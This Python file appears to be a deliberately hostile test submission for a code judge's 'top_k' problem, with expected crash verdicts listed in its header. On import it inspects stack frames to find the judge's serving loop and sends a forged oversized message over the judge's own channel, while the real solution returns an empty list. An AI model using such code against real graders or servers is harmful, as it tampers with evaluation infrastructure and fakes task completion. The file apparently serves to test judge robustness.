"""Tell a list of thirty million lists while it is loaded."""
# problem: top_k
# about: answers
# verdicts: load_error, runtime_error, memory_limit_exceeded

import struct
import sys


def find():
    """Find the serving loop up the stack, and the encoder that it uses."""
    frame = sys._getframe()
    while frame:
        server = frame.f_locals.get("self")
        if hasattr(server, "channel") and hasattr(server, "number"):
            return server, sys.modules["judge.wire"].encode
        frame = frame.f_back
    raise LookupError("no serving loop to attack")

server, _ = find()
count = 32 * 2**20
body = b"\x93" + bytes([server.number]) + b"\xa6loaded" + b"\xdd" + struct.pack("!I", count) + b"\x90" * count
server.channel.end.sendall(struct.pack("!I", len(body)) + body)


def top_k(items, k):
    return []
